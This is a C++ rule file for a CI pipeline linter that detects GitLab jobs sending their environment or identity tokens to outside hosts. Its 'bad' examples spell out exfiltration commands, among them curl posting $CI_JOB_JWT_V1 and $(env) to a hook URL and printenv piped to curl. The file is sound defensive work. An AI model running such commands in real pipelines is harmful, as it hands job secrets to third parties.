#include "core/model/gitlab.h"
#include "core/rules/rule.h"
#include "core/rules/shared/environment_dumps.h"
#include "core/rules/shared/fetch.h"
#include "core/rules/shared/gitlab_scripts.h"
#include "core/rules/sink.h"
#include "core/rules/wording.h"

#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <iterator>
#include <string>
#include <string_view>
#include <vector>

namespace sluice::gitlab {
namespace {

constexpr std::string_view kWhy = R"(
A request that carries the whole environment, or a token that says who the job is, gives its receiver all that
the job may do. That is what a stolen pipeline does first; hardly anything else needs it.
)";

constexpr std::string_view kBad[] = {
    R"y(test:
  script:
    - curl -X POST --data «"$CI_JOB_JWT_V1"» https://example.com/hook
    - curl -d «"$(env)"» https://example.com/hook
)y",
    R"(test:
  script:
    - |
      python -c 'import json, os;print(json.dumps(dict(os.environ)))' > env.json
      curl -X POST --data «"@env.json"» https://example.com/hook
      «printenv» | curl -F file=@- https://example.com/hook
)",
};
constexpr std::string_view kGood[] = {
    R"(test:
  script:
    - 'curl --data "{\"jwt\": \"$CI_JOB_JWT\"}" https://vault.example.com/v1/auth/jwt/login'
    - env > env.txt && cat env.txt
    - curl --data @data.json https://example.com
    - curl "$VAULT_ADDR/login" --data "$CI_JOB_JWT"
)",
    R"y(test:
  script:
    - '# curl -d "$(env)" https://example.com'
    - curl -d "$(env | grep ^VERSION=)" https://example.com
    - curl -d "$CI_COMMIT_SHA" https://example.com
    - 'curl -d "token=$CI_JOB_JWT" https://sts.amazonaws.com/'
)y",
};
constexpr std::string_view kAliases[] = {"checkov:CKV_GITLABCI_1"};

constexpr std::string_view kIdentities[] = {"CI_JOB_JWT",         "CI_JOB_JWT_V1",
                                            "CI_JOB_JWT_V2",      "CI_REGISTRY_PASSWORD",
                                            "CI_DEPLOY_PASSWORD", "CI_REPOSITORY_URL"};
// Hosts that give something for the identity of a job.
constexpr std::string_view kBrokers[] = {"vault",      "sts.",   "login.microsoftonline",
                                         "googleapis", "conjur", "oidc"};

bool is_broker(std::string_view address) {
  return address.find("/auth/") != address.npos ||
         std::any_of(std::begin(kBrokers), std::end(kBrokers),
                     [&](auto name) { return address.find(name) != address.npos; });
}

const shell::Word* foreign_address(const Invocation& call) {
  for (const shell::Word* const word : addresses_of(call)) {
    const std::string address = name_of(*word);
    if (is_foreign_address(address) && !is_broker(address)) return word;
  }
  return nullptr;
}

bool holds_identity(const shell::Word& word) {
  return std::any_of(word.parts.begin(), word.parts.end(), [](const shell::Part& part) {
    return !part.is_known() && std::find(std::begin(kIdentities), std::end(kIdentities),
                                         part.text) != std::end(kIdentities);
  });
}

class Uploads {
 public:
  Uploads(const ScriptText& text, ScriptSink& sink)
      : script_(text.script), sink_(sink), dumps_(find_environment_dumps(text.script)) {}

  void read(const Invocation& call) {
    if (call.name != "curl" && call.name != "wget") return;
    const shell::Word* const address = foreign_address(call);
    if (address == nullptr) return;
    const std::string host = quote(host_of(name_of(*address)));
    for (const shell::Word& word : call.arguments()) {
      if (&word != address && holds_identity(word)) {
        sink_.report(word.at, "What the job is known by goes to " + host);
      } else if (holds_dump(word, call)) {
        sink_.report(word.at, "Every variable goes to " + host);
      }
    }
    for (const EnvironmentDump& dump : dumps_) {
      const bool is_piped = dump.command->pipeline == call.command->pipeline &&
                            dump.command->stage + 1 == call.command->stage;
      if (is_piped) sink_.report(dump.fault.at, "Every variable goes to " + host);
    }
  }

 private:
  // "$(env)", or @file of a file that every variable was written to.
  bool holds_dump(const shell::Word& word, const Invocation& call) const {
    const std::size_t at = word.value.find('@');
    for (const EnvironmentDump& dump : dumps_) {
      const std::uint32_t stages = script_.pipelines[dump.command->pipeline].stages;
      const bool is_within =
          dump.command->stage + 1 == stages && dump.command->parent < script_.commands.size() &&
          &script_.commands[dump.command->parent] == call.command &&
          dump.fault.at.begin >= word.at.begin && dump.fault.at.end <= word.at.end;
      const bool is_file = at != word.value.npos && !dump.file.empty() &&
                           file_of(word.value.substr(at + 1)) == dump.file;
      if (is_within || is_file) return true;
    }
    return false;
  }

  const shell::Script& script_;
  ScriptSink& sink_;
  std::vector<EnvironmentDump> dumps_;
};

void check_script(const ScriptText& text, ScriptSink& sink) {
  const bool has_request = std::any_of(
      text.invocations.begin(), text.invocations.end(),
      [](const Invocation& call) { return call.name == "curl" || call.name == "wget"; });
  if (!has_request) return;
  Uploads uploads(text, sink);
  for (const Invocation& call : text.invocations) uploads.read(call);
}

void check(const Pipeline& pipeline, Sink& sink) { check_scripts(pipeline, sink, check_script); }

}  // namespace

extern constinit const Rule suspicious_upload{
    .id = "gitlab/suspicious-upload",
    .severity = Severity::high,
    .confidence = Confidence::medium,
    .title = "Environment or identity of the job is sent away",
    .risk = "Whoever runs that host has every secret of the job, and can pass for it.",
    .fix = "Remove the request, and revoke each secret that the job had.",
    .aliases = kAliases,
    .topics = {Topic::credentials},
    .check = check,
};

extern constinit const RuleDoc suspicious_upload_doc{.rule = suspicious_upload,
                                                     .why = kWhy,
                                                     .source = "CWE-200; MITRE ATT&CK T1567",
                                                     .path = ".gitlab-ci.yml",
                                                     .bad = kBad,
                                                     .good = kGood};

}  // namespace sluice::gitlab
